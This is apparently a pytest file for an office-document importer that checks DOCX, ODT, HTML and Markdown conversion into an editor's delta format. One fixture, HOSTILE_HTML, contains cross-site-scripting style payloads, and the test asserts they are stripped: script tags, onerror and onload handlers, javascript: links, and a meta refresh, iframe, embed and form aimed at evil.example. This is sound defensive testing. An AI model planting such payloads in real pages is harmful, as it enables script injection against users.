"""Import of real files: what a person would see after importing each format.

The DOCX and ODT were made by LibreOffice (fixtures/README.md); HTML and
Markdown are written here. Images go to an in-memory store (the endpoints'
tests use the real one). Every result has passed ``parse_change`` inside
``convert``; these tests check that the structure survived.
"""

from __future__ import annotations

import base64
import io

import pytest
from PIL import Image as PILImage

from office.importers import Converted, ImportRefused, convert
from realtime.ot import parse_change
from tests.office.import_helpers import MemoryImages, fixture_bytes
from tests.office.structure import Structure, structure


def _png(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    PILImage.new("RGB", size, (10, 120, 200)).save(out, "PNG")
    return out.getvalue()


def _convert(data: bytes, name: str, images: MemoryImages | None = None) -> Converted:
    return convert(data, name, store_image=images if images is not None else MemoryImages())


def assert_report(doc: Structure, *, alt: bool) -> None:
    """The report fixture's structure, as written in fixtures/source/report.html."""
    assert doc.texts(header=1) == ["Quarterly report"]
    assert doc.texts(header=2) == ["Goals", "Steps"]
    assert doc.texts(header=3) == ["Checklist"]
    assert [(t, a.get("indent")) for t, a in doc.lines if a.get("list") == "bullet"] == [
        ("Ship the editor", None),
        ("Import office files", None),
        ("DOCX first", 1),
    ]
    assert doc.texts(list="ordered") == ["Plan", "Build", "Test"]
    assert doc.texts(list="checked") == ["Write the tests"]
    assert doc.texts(list="unchecked") == ["Write the docs"]
    assert doc.table() == [["Region", "Sales"], ["North", "120"], ["South", "95"]]
    assert doc.links == [("the specification", "https://example.com/spec")]
    assert len(doc.images) == 1
    assert (doc.images[0]["width"], doc.images[0]["height"]) == ("120", "80")
    if alt:
        assert doc.images[0]["alt"] == "Sales chart"
    assert doc.formatted["bold=True"] == ["bold"]
    assert doc.formatted["italic=True"] == ["italic"]
    assert doc.formatted["underline=True"] == ["underlined"]
    assert doc.formatted["strike=True"] == ["struck"]
    assert doc.formatted["color=#c00000"] == ["red text"]
    assert doc.formatted["background=#ffff00"] == ["highlighted text"]
    assert doc.formatted["size=large"] == ["large text"]
    assert doc.formatted["font=monospace"] == ["monospace code"]
    assert doc.texts(align="center") == ["Centered closing line."]


def test_docx_made_by_libreoffice_keeps_its_structure() -> None:
    images = MemoryImages()
    result = _convert(fixture_bytes("report.docx"), "report.docx", images)
    assert result.title == "Quarterly report"
    assert result.kind == "docx"
    # LibreOffice writes the picture's title nowhere in DOCX: no alt to read.
    assert_report(structure(result.delta), alt=False)
    assert images.names == ["image1.png"]
    assert result.warnings == []


def test_odt_made_by_libreoffice_keeps_its_structure() -> None:
    images = MemoryImages()
    result = _convert(fixture_bytes("report.odt"), "report.odt", images)
    assert result.title == "Quarterly report"
    assert result.kind == "odt"
    assert_report(structure(result.delta), alt=True)
    assert len(images.by_src) == 1
    assert result.warnings == []


def test_the_title_falls_back_to_the_file_name() -> None:
    result = _convert(b"<p>Hello</p>", "C:\\Users\\me\\meeting_notes.html")
    assert result.title == "meeting notes"
    assert result.delta == [{"insert": "Hello\n"}]


HOSTILE_HTML = b"""<!doctype html><html><head><title>Notes</title>
<script>alert(1)</script><style>p { color: red }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="steal()">
<p onclick="x()">Hello <img src="x" onerror="alert(1)"><a href="javascript:alert(1)">bad</a>
<a href=" JaVaScRiPt:alert(2)">worse</a> <a href="https://ok.example/">good</a></p>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object>
<svg><script>alert(2)</script><text>svg text</text></svg>
<form action="https://evil.example/"><input name="q" value="typed"><textarea>secret</textarea>
<button>Press</button></form>
<p>Data: <img src="data:image/png;base64,%s" alt="inline" width="40" height="30">
Remote: <img src="https://tracker.example/pixel.png" alt="pixel"></p>
<embed src="https://evil.example/x"><noscript>no script</noscript>
</body></html>""" % base64.b64encode(_png()).replace(b"%", b"%%")


def test_nothing_executable_or_remote_survives_html() -> None:
    images = MemoryImages()
    result = _convert(HOSTILE_HTML, "notes.html", images)
    assert result.title == "Notes"
    text = "".join(op["insert"] for op in result.delta if isinstance(op["insert"], str))
    for gone in ("alert", "steal", "svg text", "secret", "typed", "Press", "no script", "red"):
        assert gone not in text
    doc = structure(result.delta)
    assert doc.links == [
        ("good", "https://ok.example/"),
        ("pixel", "https://tracker.example/pixel.png"),
    ]
    assert "bad" in text and "worse" in text  # the words stay, the javascript: links go
    # The data: image was stored (and only it); the remote one became a link.
    assert len(images.by_src) == 1
    assert [image["src"] for image in doc.images] == list(images.by_src)
    assert doc.images[0]["alt"] == "inline"
    assert any("other sites became links" in warning for warning in result.warnings)
    assert any("2 link(s) to addresses of a kind not allowed" in w for w in result.warnings)
    # Only schema attributes and embeds, whatever the markup held.
    for op in result.delta:
        assert set(op.get("attributes", {})) <= {"link", "alt", "width", "height"}
        if isinstance(op["insert"], dict):
            assert set(op["insert"]) == {"image"}
    parse_change(result.delta)


def test_html_maps_quills_own_markup_and_office_styles() -> None:
    html = b"""<h1 class="ql-align-center">T</h1>
<p class="ql-indent-2"><span class="ql-size-huge ql-font-serif">big</span>
<span style="font-weight:700;font-style:italic;text-decoration:underline line-through;
color:#00F;background-color:rgb(255, 255, 0);font-family:'Courier New'">all</span></p>
<ol><li data-list="checked">done</li><li data-list="unchecked">todo</li>
<li data-list="bullet">dot</li></ol>
<ul class="contains-task-list"><li><input type="checkbox" checked> ticked</li></ul>
<pre>line 1
  line 2</pre><hr><p style="page-break-before:always">after break</p>
<h5>deep heading</h5><blockquote>quoted</blockquote>"""
    doc = structure(_convert(html, "q.html").delta)
    assert doc.lines[0] == ("T", {"header": 1, "align": "center"})
    assert doc.lines[1] == ("big all", {"indent": 2})
    assert doc.formatted["size=huge"] == ["big"] and doc.formatted["font=serif"] == ["big"]
    for name in ("bold=True", "italic=True", "underline=True", "strike=True",
                 "color=#0000ff", "background=#ffff00", "font=monospace"):  # fmt: skip
        assert doc.formatted[name] == ["all"], name
    assert doc.texts(list="checked") == ["done", "ticked"]
    assert doc.texts(list="unchecked") == ["todo"]
    assert doc.texts(list="bullet") == ["dot"]
    assert doc.texts(**{"code-block": True}) == ["line 1", "  line 2"]
    kinds = [text for text, attrs in doc.lines if text in ("divider", "pagebreak")]
    assert kinds == ["divider", "pagebreak"]
    assert doc.texts(header=3) == ["deep heading"]
    assert doc.texts(blockquote=True) == ["quoted"]


def test_html_tables_keep_a_grid_and_stay_apart() -> None:
    html = b"""<table><tr><th colspan="2">Head</th></tr><tr><td>a</td><td><p>b</p><p>c</p></td>
</tr><tr><td>short</td></tr></table><table><tr><td>second table</td></tr></table>"""
    result = _convert(html, "t.html")
    doc = structure(result.delta)
    assert doc.table() == [["Head", ""], ["a", "b c"], ["short", ""], ["second table"]]
    # An empty line keeps the second table from joining the first.
    assert ("", {}) in doc.lines


MARKDOWN = """# Minutes

Some **bold**, *italic*, `code`, ~~old~~ and a [link](https://example.com/a).

- [ ] open task
- [x] closed task
  - nested point

1. first
2. second

| Name | Score |
|------|-------|
| Ada  | 10    |

> a quote

```
x = 1
```

---

<script>alert(1)</script><img src="https://x.example/i.png" alt="remote">
"""


def test_markdown_with_tables_and_task_lists() -> None:
    result = _convert(MARKDOWN.encode(), "minutes.md")
    assert result.title == "Minutes"
    doc = structure(result.delta)
    assert doc.texts(header=1) == ["Minutes"]
    assert doc.texts(list="unchecked") == ["open task"]
    assert doc.texts(list="checked") == ["closed task"]
    assert [(t, a.get("indent")) for t, a in doc.lines if a.get("list") == "bullet"] == [
        ("nested point", 1)
    ]
    assert doc.texts(list="ordered") == ["first", "second"]
    assert doc.table() == [["Name", "Score"], ["Ada", "10"]]
    assert doc.texts(blockquote=True) == ["a quote"]
    assert doc.texts(**{"code-block": True}) == ["x = 1"]
    assert doc.formatted["strike=True"] == ["old"]
    assert doc.formatted["code=True"] == ["code"]
    assert doc.links == [("link", "https://example.com/a"), ("remote", "https://x.example/i.png")]
    assert ("divider", {}) in doc.lines
    assert "alert" not in str(result.delta)


def test_docx_lists_checkboxes_tables_and_fonts_from_python_docx() -> None:
    """A DOCX written by python-docx (Word's styles): numbering, glyph checklists, merged cells."""
    import docx  # the writer is only needed here
    from docx.shared import Pt, RGBColor

    document = docx.Document()
    document.core_properties.title = "Made by python-docx"
    document.add_heading("Deep", level=5)
    document.add_paragraph("one", style="List Number")
    document.add_paragraph("two", style="List Number 2")
    document.add_paragraph("dot", style="List Bullet")
    document.add_paragraph("☑ shipped")
    document.add_paragraph("☐ pending")
    para = document.add_paragraph()
    run = para.add_run("tiny grey mono")
    run.font.size = Pt(7)
    run.font.name = "Consolas"
    run.font.color.rgb = RGBColor(0x80, 0x80, 0x80)
    table = document.add_table(rows=2, cols=3)
    merged = table.cell(0, 0).merge(table.cell(0, 1))
    merged.text = "wide"
    table.cell(0, 2).text = "c"
    table.cell(1, 0).text = "x"
    document.add_page_break()
    document.add_paragraph("after", style="Intense Quote")
    out = io.BytesIO()
    document.save(out)
    result = _convert(out.getvalue(), "made.docx")
    assert result.title == "Made by python-docx"
    doc = structure(result.delta)
    assert doc.texts(header=3) == ["Deep"]
    assert doc.texts(list="ordered") == ["one", "two"]
    assert doc.texts(list="bullet") == ["dot"]
    assert doc.texts(list="checked") == ["shipped"]
    assert doc.texts(list="unchecked") == ["pending"]
    assert doc.formatted["size=small"] == ["tiny grey mono"]
    assert doc.formatted["font=monospace"] == ["tiny grey mono"]
    assert doc.formatted["color=#808080"] == ["tiny grey mono"]
    assert doc.table() == [["wide", "", "c"], ["x", "", ""]]
    assert ("pagebreak", {}) in doc.lines
    assert doc.texts(blockquote=True) == ["after"]


def test_a_word_checkbox_content_control_is_a_checklist_item() -> None:
    import docx
    from lxml import etree

    document = docx.Document()
    paragraph = document.add_paragraph()
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    w14 = "http://schemas.microsoft.com/office/word/2010/wordml"
    sdt = etree.fromstring(
        f'<w:sdt xmlns:w="{w}" xmlns:w14="{w14}"><w:sdtPr><w14:checkbox>'
        '<w14:checked w14:val="1"/></w14:checkbox></w:sdtPr><w:sdtContent><w:r><w:t>☒</w:t>'
        "</w:r></w:sdtContent></w:sdt>"
    )
    paragraph._p.append(sdt)
    paragraph.add_run(" Call the printer")
    out = io.BytesIO()
    document.save(out)
    doc = structure(_convert(out.getvalue(), "box.docx").delta)
    assert doc.texts(list="checked") == ["Call the printer"]


@pytest.mark.parametrize("name", ["report.docx", "report.odt"])
def test_an_image_the_store_cannot_take_is_left_out_with_a_warning(name: str) -> None:
    result = convert(fixture_bytes(name), name, store_image=lambda data, filename: None)
    assert structure(result.delta).images == []
    assert any("picture(s)" in warning for warning in result.warnings)


def test_an_image_refusal_stops_the_import() -> None:
    def refuse(data: bytes, filename: str) -> str | None:
        raise ImportRefused("image_rejected", "An image in the file was refused: too big.")

    with pytest.raises(ImportRefused) as refused:
        convert(fixture_bytes("report.odt"), "report.odt", store_image=refuse)
    assert refused.value.code == "image_rejected"


@pytest.mark.parametrize(
    ("html", "ending"),
    [
        (b"<p>a</p><hr>", [{"insert": {"divider": True}}, {"insert": "\n"}]),
        (
            b'<p style="page-break-before:always"></p>',
            [{"insert": {"pagebreak": True}}, {"insert": "\n"}],
        ),
        (b"<table><tr><td>x</td></tr></table>", [{"insert": "\n"}]),
        (b"", [{"insert": "\n"}]),
    ],
    ids=["rule", "page-break", "table", "nothing"],
)
def test_content_always_ends_with_a_plain_line(html: bytes, ending: list[dict]) -> None:
    """The editor's invariants: a final newline, and a table or marker never last."""
    delta = convert(html or b" ", "x.html", store_image=MemoryImages()).delta
    assert delta[-len(ending) :] == ending
    assert "table" not in delta[-1].get("attributes", {})


def test_list_items_holding_paragraphs_are_one_line_each() -> None:
    """Word, Google Docs and loose Markdown lists wrap items in <p>: no blank items."""
    html = b"<ul><li><p>one</p></li><li></li><li>x<ul><li><p>y</p></li></ul></li></ul>"
    assert convert(html, "l.html", store_image=MemoryImages()).delta == [
        {"insert": "one"},
        {"insert": "\n\n", "attributes": {"list": "bullet"}},
        {"insert": "x"},
        {"insert": "\n", "attributes": {"list": "bullet"}},
        {"insert": "y"},
        {"insert": "\n", "attributes": {"list": "bullet", "indent": 1}},
    ]
    loose = structure(convert(b"- a\n\n- b\n", "l.md", store_image=MemoryImages()).delta)
    assert loose.lines == [("a", {"list": "bullet"}), ("b", {"list": "bullet"})]
